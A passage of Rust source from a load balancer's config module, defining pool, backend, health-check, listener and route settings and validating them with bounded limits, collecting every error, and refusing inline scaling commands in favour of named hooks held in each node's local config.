    /// Retired: read only to reject it with a message saying what to do instead.
    #[schemars(skip)]
    pub scale_out_cmd: Option<serde::de::IgnoredAny>,
    /// Retired, like `scale_out_cmd`.
    #[schemars(skip)]
    pub scale_in_cmd: Option<serde::de::IgnoredAny>,
}

/// `[[pool.backend]]`: one backend server.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawBackend {
    /// `IP:PORT` (IPv6 as `[addr]:port`, no zone), port 1..=65535. Required; at most 64 bytes
    /// (`MAX_ADDR_LEN`).
    #[schemars(length(min = 1, max = MAX_ADDR_LEN))]
    pub addr: Option<String>,
    /// Relative share of the traffic (weighted policies, hash tables). Default 1; 1..=1000
    /// (`WEIGHT_RANGE`).
    #[schemars(range(min = *WEIGHT_RANGE.start(), max = *WEIGHT_RANGE.end()))]
    pub weight: Option<i64>,
    /// Serves only while no primary backend of the pool is healthy. Default false; not with
    /// `standby`.
    #[serde(default)]
    pub backup: bool,
    /// Kept inactive until the leader's autoscaler (`[pool.scale]`) activates it. Default false; not
    /// with `backup`.
    #[serde(default)]
    pub standby: bool,
}

/// `[pool.health]`: the active health check every node runs against each backend.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawHealth {
    /// `http` (a GET of `path`), `tcp` (a connect) or `none`. Default `tcp`.
    #[serde(default)]
    #[schemars(schema_with = "schema::health_kind")]
    pub kind: Option<String>,
    /// HTTP: the path requested. Default "/health"; starts with `/`, no spaces or control
    /// characters, at most 1024 bytes (`MAX_PATH_LEN`).
    #[schemars(length(min = 1, max = MAX_PATH_LEN), pattern(PATH_PATTERN))]
    pub path: Option<String>,
    /// Time between probes. Default "1s"; a duration in 100ms..=1h (`MIN_HEALTH_INTERVAL`,
    /// `MAX_HEALTH_INTERVAL`).
    #[schemars(length(min = 1))]
    pub interval: Option<String>,
    /// How long one probe may take. Default "500ms"; a duration in 1ms..=1h, at most `interval`.
    #[schemars(length(min = 1))]
    pub timeout: Option<String>,
    /// Probes in a row that must pass before a backend is seen up. Default 2; 1..=100
    /// (`MAX_HEALTH_COUNT`).
    #[schemars(range(min = 1, max = MAX_HEALTH_COUNT))]
    pub rise: Option<i64>,
    /// Probes in a row that must fail before a backend is seen down. Default 2; 1..=100.
    #[schemars(range(min = 1, max = MAX_HEALTH_COUNT))]
    pub fall: Option<i64>,
    /// HTTP: the accepted status codes, `[low, high]` inclusive. Default [200, 399]; within
    /// 100..=599, low at most high.
    #[schemars(length(equal = 2), inner(range(min = 100, max = 599)))]
    pub expect_status: Option<[i64; 2]>,
    /// Down votes needed to mark a backend down fleet-wide. Default: a majority of the live voters;
    /// 1..=100.
    #[schemars(range(min = 1, max = MAX_HEALTH_COUNT))]
    pub quorum: Option<i64>,
}

/// `[[listener]]`: a data-plane listener, bound on every node at `<node bind ip>:port`.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawListener {
    /// The listener's name. Required: 1 to 64 of A-Z a-z 0-9 - _ . (`MAX_NAME_LEN`).
    #[schemars(length(min = 1, max = MAX_NAME_LEN), pattern(NAME_PATTERN))]
    pub name: Option<String>,
    /// `http` (HTTP/1.1 and h2c; HTTP/2 over TLS), `tcp` or `udp`. Required.
    #[serde(default)]
    #[schemars(schema_with = "schema::protocol")]
    pub protocol: Option<String>,
    /// The port on every node. Required; 1..=65535, not 7400 or 7401 over TCP (`RESERVED_PORTS`).
    #[schemars(range(min = 1, max = 65535))]
    pub port: Option<i64>,
    /// The pool that gets what no route matches. Required; a pool of this config.
    #[schemars(length(min = 1, max = MAX_NAME_LEN), pattern(NAME_PATTERN))]
    pub pool: Option<String>,
    /// HTTP only: answer 307 pointing at the chosen backend instead of proxying. Default false.
    #[serde(default)]
    pub redirect: bool,
    /// TCP only: send a PROXY protocol header of this version to the backends, 1..=2 (v1 or v2).
    /// Default: none.
    #[schemars(range(min = 1, max = 2))]
    pub proxy_protocol: Option<i64>,
    /// HTTP and TCP: read a PROXY protocol header (v1 or v2) from trusted fronts before anything
    /// else. Default: none.
    pub accept_proxy_protocol: Option<RawAcceptProxyProtocol>,
    /// Timeouts of the listener's connections. Default: the defaults of each field.
    pub timeouts: Option<RawTimeouts>,
    /// HTTP only: routes by host and path prefix; the first match wins, no match goes to `pool`. At
    /// most 2000 per listener (`MAX_ROUTES_PER_LISTENER`).
    #[serde(default)]
    #[schemars(length(max = MAX_ROUTES_PER_LISTENER))]
    pub route: Vec<RawRoute>,
    /// HTTP only: request limits (other protocols accept only the defaults). Default: the defaults
    /// of each field.
    pub limits: Option<RawHttpLimits>,
    /// Connection caps and the rate limit, each node on its own connections. Default: none.
    pub admission: Option<RawListenerLimits>,
    /// HTTP and TCP: terminate TLS (TCP: or pass it through). Default: none (cleartext).
    pub tls: Option<RawListenerTls>,
    /// TCP passthrough only: the pool chosen by the ClientHello's SNI, first match; no match goes to
    /// `pool`. At most 256 (`tls::MAX_SNI_ROUTES`).
    #[serde(default)]
    #[schemars(length(max = tls::MAX_SNI_ROUTES))]
    pub sni_route: Vec<RawSniRoute>,
    /// One access log line per HTTP request (TCP, UDP: per connection or flow), written where each
    /// node's `access_log` says. Default false.
    #[serde(default)]
    pub access_log: bool,
}

/// `[listener.limits]`: what an HTTP request may weigh; sizes in bytes.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawHttpLimits {
    /// Request line and headers (HTTP/2: the header list size); above it: 431. Default 32768;
    /// 1024..=1048576 (`MAX_REQUEST_HEAD_RANGE`).
    #[schemars(range(min = *MAX_REQUEST_HEAD_RANGE.start(), max = *MAX_REQUEST_HEAD_RANGE.end()))]
    pub max_request_head: Option<i64>,
    /// Header lines; above it: 431. Default 100; 1..=1000 (`MAX_HEADERS_RANGE`).
    #[schemars(range(min = *MAX_HEADERS_RANGE.start(), max = *MAX_HEADERS_RANGE.end()))]
    pub max_headers: Option<i64>,
    /// Method, target and version; above it: 414. Default 8192; 64..=65536
    /// (`MAX_REQUEST_LINE_RANGE`), at most `max_request_head`.
    #[schemars(range(min = *MAX_REQUEST_LINE_RANGE.start(), max = *MAX_REQUEST_LINE_RANGE.end()))]
    pub max_request_line: Option<i64>,
    /// The body; above it: 413. Default: no limit; 1..=1099511627776 (1 TiB, `MAX_BODY_RANGE`).
    #[schemars(range(min = *MAX_BODY_RANGE.start(), max = *MAX_BODY_RANGE.end()))]
    pub max_body: Option<i64>,
}

/// `[listener.accept_proxy_protocol]`: connections start with a PROXY protocol header from a front.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawAcceptProxyProtocol {
    /// The sources allowed to send the header: IP addresses or networks without host bits
    /// ("10.0.0.0/8", "2001:db8::/32"; ["0.0.0.0/0", "::/0"] trusts everyone). Required, 1 to 256
    /// entries (`MAX_PROXY_PROTOCOL_FROM`).
    #[schemars(length(min = 1, max = MAX_PROXY_PROTOCOL_FROM))]
    pub from: Option<Vec<String>>,
}

/// `[listener.timeouts]`: durations ("500ms", "2s", "1m").
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawTimeouts {
    /// Connecting to a backend. Default "2s"; 1ms..=5m (`MAX_CONNECT_TIMEOUT`).
    #[schemars(length(min = 1))]
    pub connect: Option<String>,
    /// HTTP: receiving one request head (slowloris), then the connection closes. Default "10s";
    /// 1ms..=1h (`MAX_REQUEST_HEADER_TIMEOUT`).
    #[schemars(length(min = 1))]
    pub request_header: Option<String>,
    /// No byte either way. Default "60s"; 1ms..=1day (`MAX_IDLE_TIMEOUT`).
    #[schemars(length(min = 1))]
    pub idle: Option<String>,
    /// HTTP: the backend's response head. Default "30s"; 1ms..=1day
    /// (`MAX_UPSTREAM_RESPONSE_TIMEOUT`).
    #[schemars(length(min = 1))]
    pub upstream_response: Option<String>,
}

/// `[[listener.route]]`: requests matching `host` and `path_prefix` (both, when both are given) go
/// to `pool`. At least one of the two.
#[derive(Debug, Clone, Default, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct RawRoute {
    /// The request's host (case-insensitive), without port. Default: any host. 1 to 253 bytes
    /// (`MAX_HOST_LEN`), no spaces or `/`.
    #[schemars(length(min = 1, max = MAX_HOST_LEN), pattern(HOST_PATTERN))]
    pub host: Option<String>,
    /// The start of the request's path. Default: any path. Starts with `/`, at most 1024 bytes
    /// (`MAX_PATH_LEN`).
    #[schemars(length(min = 1, max = MAX_PATH_LEN), pattern("^/"))]
    pub path_prefix: Option<String>,
    /// The pool the matching requests go to. Required; a pool of this config.
    #[schemars(length(min = 1, max = MAX_NAME_LEN), pattern(NAME_PATTERN))]
    pub pool: Option<String>,
    /// The requests this route takes, on top of the listener's rate limit. Default: none.
    pub rate_limit: Option<RawRateLimit>,
}

/// One problem found in a config, with where it is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfigError {
    /// e.g. `pool "web" backend 2`; empty for the document as a whole.
    pub place: String,
    pub message: String,
}

impl fmt::Display for ConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.place.is_empty() {
            f.write_str(&self.message)
        } else {
            write!(f, "{}: {}", self.place, self.message)
        }
    }
}

/// Every problem found in a config.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub struct ConfigErrors(pub Vec<ConfigError>);

impl ConfigErrors {
    pub fn messages(&self) -> Vec<String> {
        self.0.iter().map(ToString::to_string).collect()
    }
}

impl fmt::Display for ConfigErrors {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let n = self.0.len();
        write!(f, "config rejected: {n} problem{}", if n == 1 { "" } else { "s" })?;
        for e in self.0.iter().take(MAX_LISTED_PROBLEMS) {
            write!(f, "\n  - {e}")?;
        }
        if n > MAX_LISTED_PROBLEMS {
            write!(f, "\n  - … and {} more", n - MAX_LISTED_PROBLEMS)?;
        }
        Ok(())
    }
}

/// Text formats a config can be written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Toml,
    Json,
}

impl std::str::FromStr for Format {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "toml" | "" => Ok(Format::Toml),
            "json" => Ok(Format::Json),
            other => Err(format!("unknown config format \"{other}\" (expected toml or json)")),
        }
    }
}

/// Parse and validate a config. A document above [`MAX_CONFIG_BYTES`] is refused before it is parsed.
pub fn parse(text: &str, format: Format) -> Result<ClusterConfig, ConfigErrors> {
    if text.len() > MAX_CONFIG_BYTES {
        return Err(ConfigErrors(vec![ConfigError {
            place: String::new(),
            message: format!(
                "the config is {} bytes, above the limit of {MAX_CONFIG_BYTES} bytes ({} MiB)",
                text.len(),
                MAX_CONFIG_BYTES >> 20
            ),
        }]));
    }
    let raw: RawConfig = match format {
        Format::Toml => toml::from_str(text).map_err(|e| syntax_error("TOML", e.to_string()))?,
        Format::Json => serde_json::from_str(text).map_err(|e| syntax_error("JSON", e.to_string()))?,
    };
    raw.validate()
}

fn syntax_error(kind: &str, msg: String) -> ConfigErrors {
    ConfigErrors(vec![ConfigError {
        place: String::new(),
        message: format!("cannot parse {kind}: {}", msg.trim_end()),
    }])
}

struct Problems(Vec<ConfigError>);

impl Problems {
    fn push(&mut self, place: &str, message: impl Into<String>) {
        self.0.push(ConfigError { place: place.to_string(), message: message.into() });
    }
}

/// A duration field within `range`; `None` (and a problem naming the field and the bounds) when it
/// does not parse or lies outside. An absent field is `default`.
fn bounded_duration(
    p: &mut Problems,
    place: &str,
    field: &str,
    v: &Option<String>,
    default: Duration,
    range: std::ops::RangeInclusive<Duration>,
) -> Option<Duration> {
    let Some(text) = v else { return Some(default) };
    let d = match humantime::parse_duration(text) {
        Ok(d) => d,
        Err(e) => {
            p.push(place, format!("invalid {field} \"{}\": {e}", shown(text)));
            return None;
        }
    };
    if !range.contains(&d) {
        p.push(
            place,
            format!(
                "{field} {} out of range {}..={}",
                shown(text),
                humantime::format_duration(*range.start()),
                humantime::format_duration(*range.end())
            ),
        );
        return None;
    }
    Some(d)
}

/// `s` as quoted in a problem: at most 64 characters, so that a rejection stays small.
fn shown(s: &str) -> String {
    match s.char_indices().nth(64) {
        None => s.to_string(),
        Some((i, _)) => format!("{}…", &s[..i]),
    }
}

fn is_token(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
}

/// Whether `s` is a valid pool, listener or hook name: 1 to [`MAX_NAME_LEN`] of A-Z a-z 0-9 - _ .
pub fn is_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= MAX_NAME_LEN
        && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
}

/// Check that every hook a config names (`scale_out_hook`, `scale_in_hook`) is one of `known`, the
/// hooks defined in the local config of `node`, the node that received the config. Pure: the caller
/// passes the names in. One problem per unknown reference.
pub fn check_hooks(
    config: &ClusterConfig,
    node: crate::NodeId,
    known: &BTreeSet<String>,
) -> Result<(), ConfigErrors> {
    let mut p = Problems(Vec::new());
    for pool in &config.pool {
        let Some(scale) = &pool.scale else { continue };
        for (field, hook) in
            [("scale_out_hook", &scale.scale_out_hook), ("scale_in_hook", &scale.scale_in_hook)]
        {
            let Some(name) = hook else { continue };
            if !known.contains(name) {
                let defined = if known.is_empty() {
                    "it defines no hooks".to_string()
                } else {
                    let names: Vec<&str> = known.iter().map(String::as_str).collect();
                    format!("it defines {}", names.join(", "))
                };
                p.push(
                    &format!("pool \"{}\" scale", pool.name),
                    format!(
                        "{field} \"{name}\" is not defined on node {node} ({defined}); add [hooks.{name}] to \
                         the local config of every node (lbnode --config) and restart it"
                    ),
                );
            }
        }
    }
    if p.0.is_empty() {
        Ok(())
    } else {
        Err(ConfigErrors(p.0))
    }
}

/// Deterministic primality test (trial division; table sizes are at most ~2^24).
pub fn is_prime(n: u64) -> bool {
    if n < 2 {
        return false;
    }
    if n.is_multiple_of(2) {
        return n == 2;
    }
    let mut d = 3u64;
    while d * d <= n {
        if n.is_multiple_of(d) {
            return false;
        }
        d += 2;
    }
    true
}

impl RawConfig {
    /// Validate and type the config, collecting every problem.
    pub fn validate(&self) -> Result<ClusterConfig, ConfigErrors> {
        let mut p = Problems(Vec::new());
        let counts = [
            (self.pool.len(), MAX_POOLS, "pools"),
            (
                self.pool.iter().map(|rp| rp.backend.len()).sum(),
                MAX_TOTAL_BACKENDS,
                "backends over all pools",
            ),
            (self.listener.len(), MAX_LISTENERS, "listeners"),
            (
                self.listener.iter().map(|rl| rl.route.len()).sum(),
                MAX_TOTAL_ROUTES,
                "routes over all listeners",
            ),
        ];
        for (n, limit, what) in counts {
            if n > limit {
                p.push("", format!("{n} {what}, above the limit of {limit}"));
            }
        }
        // Over a count limit, the rest is not looked at: the work spent on a hostile document stays
        // bounded by the limits, not by its size.
        if !p.0.is_empty() {
            return Err(ConfigErrors(p.0));
        }
        let mut pools = Vec::with_capacity(self.pool.len());
        let mut seen_pools = BTreeSet::new();
        for (i, rp) in self.pool.iter().enumerate() {
            let place = match &rp.name {
                Some(n) => format!("pool \"{}\"", shown(n)),
                None => format!("pool {}", i + 1),
            };
            if let Some(pool) = validate_pool(&mut p, &place, rp) {
                if !seen_pools.insert(pool.name.clone()) {
                    p.push(&place, "duplicate pool name");
                }
                pools.push(pool);
            }
        }

        let slots: u64 = pools.iter().map(Pool::table_slots).sum();
        if slots > MAX_TOTAL_TABLE_SLOTS {
            p.push(
                "",
                format!(
                    "{slots} table slots over all pools, above the limit of {MAX_TOTAL_TABLE_SLOTS} (a maglev \
                     pool counts its table_size, a ring_hash pool its ring points: lower table_size)"
                ),
            );
        }

        let by_name: BTreeMap<&str, usize> =
            pools.iter().enumerate().rev().map(|(i, pl)| (pl.name.as_str(), i)).collect();
        let mut listeners = Vec::with_capacity(self.listener.len());
        let mut seen_listeners = BTreeSet::new();
        let mut ports: BTreeMap<(&'static str, u16), String> = BTreeMap::new();
        for (i, rl) in self.listener.iter().enumerate() {
            let place = match &rl.name {
                Some(n) => format!("listener \"{}\"", shown(n)),
                None => format!("listener {}", i + 1),
            };
            let Some(l) = validate_listener(&mut p, &place, rl) else { continue };
            if !seen_listeners.insert(l.name.clone()) {
                p.push(&place, "duplicate listener name");
            }
            if let Some((_, what)) = RESERVED_PORTS.iter().find(|(port, _)| *port == l.port) {
                if l.protocol.transport() == "tcp" {
                    p.push(&place, format!("port {} is reserved for {what}", l.port));
                }
            }
            match ports.get(&(l.protocol.transport(), l.port)) {
                Some(other) => p.push(
                    &place,
                    format!(
                        "port conflict: {}/{} is already used by listener \"{other}\"",
                        l.protocol.transport(),
                        l.port
                    ),
                ),
                None => {
                    ports.insert((l.protocol.transport(), l.port), l.name.clone());
                }
            }
            let mut pool_refs = vec![(l.pool.clone(), "pool".to_string())];
            for (ri, r) in l.route.iter().enumerate() {
                pool_refs.push((r.pool.clone(), format!("route {} pool", ri + 1)));
            }
            for (ri, r) in l.sni_route.iter().enumerate() {
                pool_refs.push((r.pool.clone(), format!("sni_route {} pool", ri + 1)));
            }
            for (pool_name, what) in pool_refs {
                match by_name.get(pool_name.as_str()).map(|&i| &pools[i]) {
                    None if seen_pools.contains(&pool_name) => {}
                    None => p.push(&place, format!("{what} \"{}\" does not exist", shown(&pool_name))),
                    Some(pool) => {
                        if l.protocol != Protocol::Http && pool.hash_key.needs_http() {
                            p.push(
                                &place,
                                format!(
                                    "pool \"{}\" hashes on {} which needs an http listener, not {}",
                                    pool.name,
                                    pool.hash_key,
                                    l.protocol.as_str()
                                ),
                            );
                        }
                        if l.protocol != Protocol::Udp && pool.hash_key == HashKey::Flow {
                            p.push(
                                &place,
                                format!(
                                    "pool \"{}\" hashes on flow which needs a udp listener, not {}",
                                    pool.name,
                                    l.protocol.as_str()
                                ),
                            );
                        }
                    }
                }
            }
            listeners.push(l);
        }

        if p.0.is_empty() {
            Ok(ClusterConfig { pool: pools, listener: listeners })
        } else {
            Err(ConfigErrors(p.0))
        }
    }
}

fn validate_pool(p: &mut Problems, place: &str, rp: &RawPool) -> Option<Pool> {
    let name = match &rp.name {
        None => {
            p.push(place, "missing name");
            String::new()
        }
        Some(n) if !is_name(n) => {
            p.push(
                place,
                format!("invalid name \"{}\": use 1 to {MAX_NAME_LEN} of A-Z a-z 0-9 - _ .", shown(n)),
            );
            n.clone()
        }
        Some(n) => n.clone(),
    };
    let policy = match rp.policy.as_deref().unwrap_or("round_robin").parse::<Policy>() {
        Ok(pl) => pl,
        Err(e) => {
            p.push(place, e);
            Policy::RoundRobin
        }
    };
    let default_key = if policy.is_hash() { "source_ip" } else { "source_addr" };
    let hash_key_text = rp.hash_key.as_deref().unwrap_or(default_key);
    let hash_key = if hash_key_text.len() > MAX_HEADER_NAME_LEN + "header:".len() {
        p.push(
            place,
            format!(
                "hash_key is {} bytes long; a header or cookie name is at most {MAX_HEADER_NAME_LEN}",
                hash_key_text.len()
            ),
        );
        HashKey::SourceIp
    } else {
        match hash_key_text.parse::<HashKey>() {
            Ok(k) => k,
            Err(e) => {
                p.push(place, e);
                HashKey::SourceIp
            }
        }
    };
    if rp.backend.len() > MAX_BACKENDS_PER_POOL {
        p.push(
            place,
            format!("{} backends, above the limit of {MAX_BACKENDS_PER_POOL} per pool", rp.backend.len()),
        );
    }
    let table_size = rp.table_size.unwrap_or(DEFAULT_TABLE_SIZE);
    if !(MIN_TABLE_SIZE..=MAX_TABLE_SIZE).contains(&table_size) {
        p.push(place, format!("table_size {table_size} out of range {MIN_TABLE_SIZE}..={MAX_TABLE_SIZE}"));
    } else if !is_prime(table_size) {
        p.push(place, format!("table_size {table_size} is not prime"));
    } else if table_size < MIN_SLOTS_PER_BACKEND * rp.backend.len() as u64 {
        p.push(
            place,
            format!(
                "table_size {table_size} is too small for {} backends (need at least {} slots per backend)",
                rp.backend.len(),
                MIN_SLOTS_PER_BACKEND
            ),
        );
    }
    if let Some(c) = &rp.sticky_cookie {
        if c.len() > MAX_HEADER_NAME_LEN {
            p.push(
                place,
                format!("sticky_cookie is {} bytes long, above the limit of {MAX_HEADER_NAME_LEN}", c.len()),
            );
        } else if !is_token(c) {
            p.push(place, format!("invalid sticky_cookie \"{c}\": must be an HTTP token"));
        }
    }
    let health = validate_health(p, place, rp.health.as_ref());

    let mut backends = Vec::with_capacity(rp.backend.len());
    let mut seen = BTreeSet::new();
    for (bi, rb) in rp.backend.iter().enumerate() {
        let bplace = format!("{place} backend {}", bi + 1);
        let addr = match rb.addr.as_deref() {
            None => {
                p.push(&bplace, "missing addr");
                None
            }
            Some(a) if a.len() > MAX_ADDR_LEN => {
                p.push(&bplace, format!("addr is {} bytes long, above the limit of {MAX_ADDR_LEN}", a.len()));
                None
            }
            Some(a) => match a.parse::<SocketAddr>() {
                Ok(sa) if sa.port() == 0 => {
                    p.push(&bplace, format!("invalid address \"{a}\": port 0"));
                    None
                }
                // The replicated log (postcard) keeps an IPv6 address and port but not its zone.
                Ok(SocketAddr::V6(v6)) if v6.scope_id() != 0 => {
                    p.push(
                        &bplace,
                        format!("invalid address \"{a}\": IPv6 zones (%scope) are not supported"),
                    );
                    None
                }
                Ok(sa) => Some(sa),
                Err(_) => {
                    p.push(
                        &bplace,
                        format!("invalid address \"{a}\": expected IP:PORT with a port in 1..=65535"),
                    );
                    None
                }
            },
        };
        let weight = rb.weight.unwrap_or(1);
        if !(*WEIGHT_RANGE.start() as i64..=*WEIGHT_RANGE.end() as i64).contains(&weight) {
            p.push(
                &bplace,
                format!("weight {weight} out of range {}..={}", WEIGHT_RANGE.start(), WEIGHT_RANGE.end()),
            );
        }
        if rb.backup && rb.standby {
            p.push(&bplace, "a backend cannot be both backup and standby");
        }
        if let Some(addr) = addr {
            if !seen.insert(addr) {
                p.push(&bplace, format!("duplicate backend address {addr}"));
            }
            backends.push(Backend {
                addr,
                weight: weight.clamp(1, *WEIGHT_RANGE.end() as i64) as u32,
                backup: rb.backup,
                standby: rb.standby,
            });
        }
    }
    let outlier = validate_outlier(p, place, rp.outlier.as_ref());
    let scale = rp.scale.as_ref().map(|rs| validate_scale(p, place, rs, &backends));
    Some(Pool {
        name,
        policy,
        hash_key,
        table_size,
        sticky_cookie: rp.sticky_cookie.clone(),
        health,
        outlier,
        scale,
        backend: backends,
        max_connections_per_backend: validate_backend_limit(p, place, rp.max_connections_per_backend),
        tls: rp.tls.as_ref().and_then(|r| tls::validate_pool_tls(p, place, r)),
    })
}

fn validate_outlier(p: &mut Problems, pool_place: &str, ro: Option<&RawOutlier>) -> OutlierDetection {
    let d = OutlierDetection::default();
    let Some(ro) = ro else { return d };
    let place = format!("{pool_place} outlier");
    let mut int = |field: &str, v: Option<i64>, default: u32, range: std::ops::RangeInclusive<i64>| -> u32 {
        let v = v.unwrap_or(default as i64);
        if range.contains(&v) {
            v as u32
        } else {
            p.push(&place, format!("{field} {v} out of range {}..={}", range.start(), range.end()));
            default
        }
    };
    let counts = 0..=i64::from(MAX_OUTLIER_COUNT);
    let consecutive_5xx = int("consecutive_5xx", ro.consecutive_5xx, d.consecutive_5xx, counts.clone());
    let consecutive_connect_failures = int(
        "consecutive_connect_failures",
        ro.consecutive_connect_failures,
        d.consecutive_connect_failures,
        counts,
    );
    let max_ejection_percent =
        int("max_ejection_percent", ro.max_ejection_percent, d.max_ejection_percent, 0..=100);
    let ejection = MIN_TIMEOUT..=MAX_EJECTION;
    let base_ejection =
        bounded_duration(p, &place, "base_ejection", &ro.base_ejection, d.base_ejection, ejection.clone());
    let max_ejection =
        bounded_duration(p, &place, "max_ejection", &ro.max_ejection, d.max_ejection, ejection);
    if let (Some(base), Some(max)) = (base_ejection, max_ejection) {
        if max < base {
            p.push(
                &place,
                format!(
                    "base_ejection {} must be at most max_ejection {}",
                    humantime::format_duration(base),
                    humantime::format_duration(max)
                ),
            );
        }
    }
    let base_ejection = base_ejection.unwrap_or(d.base_ejection);
    let max_ejection = max_ejection.unwrap_or(d.max_ejection);
    OutlierDetection {
        consecutive_5xx,
        consecutive_connect_failures,
        base_ejection,
        max_ejection,
        max_ejection_percent,
    }
}

fn validate_scale(p: &mut Problems, pool_place: &str, rs: &RawScale, backends: &[Backend]) -> Autoscale {
    let place = format!("{pool_place} scale");
    let primaries = backends.iter().filter(|b| !b.backup && !b.standby).count() as i64;
    let standbys = backends.iter().filter(|b| b.standby).count() as i64;
    let mut need = |field: &str, v: Option<i64>, max: u32| -> u32 {
        match v {
            None => {
                p.push(&place, format!("missing {field}"));
                0
            }
            Some(v) if !(0..=i64::from(max)).contains(&v) => {
                p.push(&place, format!("{field} {v} out of range 0..={max}"));
                0
            }
            Some(v) => v as u32,
        }
    };
    let min_active = need("min_active", rs.min_active, MAX_BACKENDS_PER_POOL as u32);
    let max_active = need("max_active", rs.max_active, MAX_BACKENDS_PER_POOL as u32);
    let high_watermark = need("high_watermark", rs.high_watermark, MAX_WATERMARK);
    let low_watermark = need("low_watermark", rs.low_watermark, MAX_WATERMARK);
    if standbys == 0 {
        p.push(&place, "the pool has no standby backend to scale with");
    }
    if min_active > max_active {
        p.push(&place, format!("min_active {min_active} is above max_active {max_active}"));
    }
    if i64::from(max_active) > primaries + standbys {
        p.push(
            &place,
            format!(
                "max_active {max_active} is above the {} primary and standby backends",
                primaries + standbys
            ),
        );
    }
    if low_watermark >= high_watermark {
        p.push(
            &place,
            format!("low_watermark {low_watermark} must be below high_watermark {high_watermark}"),
        );
    }
    let default_window = Duration::from_secs(30);
    let window = bounded_duration(
        p,
        &place,
        "window",
        &rs.window,
        default_window,
        MIN_SCALE_WINDOW..=MAX_SCALE_WINDOW,
    )
    .unwrap_or(default_window);
    for (field, instead, cmd) in [
        ("scale_out_cmd", "scale_out_hook", &rs.scale_out_cmd),
        ("scale_in_cmd", "scale_in_hook", &rs.scale_in_cmd),
    ] {
        if cmd.is_some() {
            p.push(
                &place,
                format!(
                    "{field} is no longer accepted: the replicated config cannot carry commands. Define the \
                     command on each node, in its local config (lbnode --config), as a named hook \
                     ([hooks.NAME] with command = [\"/absolute/program\", \"arg\", ...]), and name it here \
                     with {instead} = \"NAME\""
                ),
            );
        }
    }
    let mut hook = |field: &str, v: &Option<String>| -> Option<String> {
        let name = v.as_ref()?;
        if !is_name(name) {
            p.push(
                &place,
                format!(
                    "invalid {field} \"{}\": a hook name is 1 to {MAX_NAME_LEN} of A-Z a-z 0-9 - _ .",
                    shown(name)
                ),
            );
        }
        Some(name.clone())
    };
    let scale_out_hook = hook("scale_out_hook", &rs.scale_out_hook);
    let scale_in_hook = hook("scale_in_hook", &rs.scale_in_hook);
    Autoscale { min_active, max_active, high_watermark, low_watermark, window, scale_out_hook, scale_in_hook }
}

fn validate_health(p: &mut Problems, pool_place: &str, rh: Option<&RawHealth>) -> HealthCheck {
    let d = HealthCheck::default();
    let Some(rh) = rh else { return d };
    let place = format!("{pool_place} health");
    let kind = match rh.kind.as_deref().unwrap_or("tcp").parse::<HealthKind>() {
        Ok(k) => k,
        Err(e) => {
            p.push(&place, e);
            d.kind
        }
    };
    let path = rh.path.clone().unwrap_or(d.path.clone());
    if path.len() > MAX_PATH_LEN {
        p.push(&place, format!("path is {} bytes long, above the limit of {MAX_PATH_LEN}", path.len()));
    } else if !path.starts_with('/') || path.bytes().any(|b| b.is_ascii_whitespace() || b.is_ascii_control())
    {
        p.push(&place, format!("invalid path \"{path}\": must start with / and contain no spaces"));
    }
    let interval = bounded_duration(
        p,
        &place,
        "interval",
        &rh.interval,
        d.interval,
        MIN_HEALTH_INTERVAL..=MAX_HEALTH_INTERVAL,
    );
    let timeout =
        bounded_duration(p, &place, "timeout", &rh.timeout, d.timeout, MIN_TIMEOUT..=MAX_HEALTH_INTERVAL);
    // Compare only durations the operator wrote correctly, so one typo is one error.
    if let (Some(interval), Some(timeout)) = (interval, timeout) {
        if timeout > interval {
            p.push(
                &place,
                format!(
                    "timeout {} must be at most the interval ({})",
                    humantime::format_duration(timeout),
                    humantime::format_duration(interval)
                ),
            );
        }
    }
    let interval = interval.unwrap_or(d.interval);
    let timeout = timeout.unwrap_or(d.timeout);
    let mut count = |field: &str, v: Option<i64>, default: u32| -> u32 {
        let v = v.unwrap_or(default as i64);
        if !(1..=i64::from(MAX_HEALTH_COUNT)).contains(&v) {
            p.push(&place, format!("{field} {v} out of range 1..={MAX_HEALTH_COUNT}"));
            default
        } else {
            v as u32
        }
    };
    let rise = count("rise", rh.rise, d.rise);
    let fall = count("fall", rh.fall, d.fall);
    let expect_status = match rh.expect_status {
        None => d.expect_status,
        Some([lo, hi]) if (100..=599).contains(&lo) && (lo..=599).contains(&hi) => [lo as u16, hi as u16],
        Some([lo, hi]) => {
            p.push(&place, format!("expect_status [{lo}, {hi}] must be a range within 100..=599"));
            d.expect_status
        }
    };
    let quorum = match rh.quorum {
        None => None,
        Some(q) if (1..=i64::from(MAX_HEALTH_COUNT)).contains(&q) => Some(q as u32),
        Some(q) => {
            p.push(&place, format!("quorum {q} out of range 1..={MAX_HEALTH_COUNT}"));
            None
        }
    };
    HealthCheck { kind, path, interval, timeout, rise, fall, expect_status, quorum }
}

fn validate_listener(p: &mut Problems, place: &str, rl: &RawListener) -> Option<Listener> {
    let name = match &rl.name {
        None => {
            p.push(place, "missing name");
            String::new()
        }
        Some(n) if !is_name(n) => {
            p.push(
                place,
                format!("invalid name \"{}\": use 1 to {MAX_NAME_LEN} of A-Z a-z 0-9 - _ .", shown(n)),
            );
            n.clone()
        }
        Some(n) => n.clone(),
    };
    let protocol = match rl.protocol.as_deref() {
        None => {
